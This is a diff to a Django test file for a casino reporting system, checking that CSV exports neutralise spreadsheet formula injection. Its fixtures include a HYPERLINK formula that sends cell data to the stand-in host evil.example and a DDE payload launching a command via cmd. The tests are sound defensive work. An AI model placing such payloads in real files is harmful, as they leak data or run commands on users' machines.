@@ -33,6 +33,8 @@ from tests.spreadsheet import cells, live_cells
 pytestmark = pytest.mark.django_db
 
 TABLE = '=HYPERLINK("http://evil.example/?"&A1,"Day table")'
+# As written: an apostrophe first, and one after the comma before a quote.
+TABLE_CELL = '\'=HYPERLINK("http://evil.example/?"&A1,\'"Day table")'
 PATRON = "=cmd|' /C calc'!A0"
 DEALER = "@SUM(A1:A9)"
 TPPP = "+1+2"
@@ -58,7 +60,7 @@ def assert_no_live_cell(data: bytes) -> None:
 def test_no_report_csv_carries_a_formula(formula_day, report):
     data = generate_bytes(report, gaming_day=DAY)[0]
     assert_no_live_cell(data)
-    assert "'" + TABLE in cells(data)
+    assert TABLE_CELL in cells(data)
 
 
 def test_the_currency_log_names_the_patron_as_text(formula_day):
@@ -82,7 +84,7 @@ def test_the_banking_report_keeps_negative_amounts_as_numbers(formula_day):
 def test_the_audit_export_neutralises_names_and_the_void_reason(formula_day):
     _, sections = read_csv(generate_bytes("audit", gaming_day=DAY)[0])
     rounds = sections["Rounds"]
-    assert {row["table"] for row in rounds} == {"'" + TABLE}
+    assert {row["table"] for row in rounds} == {TABLE_CELL}
     assert [row["void_reason"] for row in rounds] == ["", "", "'" + VOID]
     assert [row["bank_result_cents"] for row in rounds][:1] == ["-10000"]
 
@@ -106,7 +108,7 @@ def test_the_fee_filing_csv_neutralises_the_schedule_and_the_table(formula_day):
     data = generate_bytes("fee_filing", gaming_day=NEXT_DAY)[0]
     assert_no_live_cell(data)
     identity = list(csv.reader(io.StringIO(data.decode())))[1][:2]
-    assert identity == ["'" + TABLE, "'=cmd\\|' /C calc'!A0"]
+    assert identity == [TABLE_CELL, "'=cmd\\|' /C calc'!A0"]
 
 
 # --- A line break, then a formula: the issue's two inputs, through the real paths ----------
